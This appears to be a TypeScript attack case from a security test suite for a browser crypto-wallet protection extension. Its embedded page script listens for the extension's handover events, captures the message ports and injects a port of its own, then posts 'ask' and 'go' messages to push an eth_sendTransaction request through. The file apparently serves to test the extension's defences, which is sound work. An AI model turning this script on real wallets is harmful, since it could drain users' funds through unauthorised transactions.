import type { Attack } from '../Attack.ts';

/** Whoever holds the guardian's port may ask, and nothing more. */
export const attack: Attack = {
  entry: 'handover events',
  mechanism: 'port asked for again and used',
  discovers: false,
  script: `
await kit.ready();
const ports = [];
for (const type of ['c:port', 'c:hello']) addEventListener(type, (event) => ports.push(...(event.ports ?? [])), true);
dispatchEvent(new Event('c:hello'));
const own = new MessageChannel();
dispatchEvent(new MessageEvent('c:port', { ports: [own.port2], cancelable: true }));
for (const port of [...ports, own.port1]) {
  port.onmessage = () => undefined;
  port.postMessage({ t: 'ask', id: '1'.repeat(32), method: 'eth_sendTransaction', paramsText: JSON.stringify([kit.tx()]), chainId: null, account: null, rdns: null, name: null });
  port.postMessage({ t: 'go', id: '1'.repeat(32) });
}
kit.post(kit.rpc(kit.send()));
`,
};
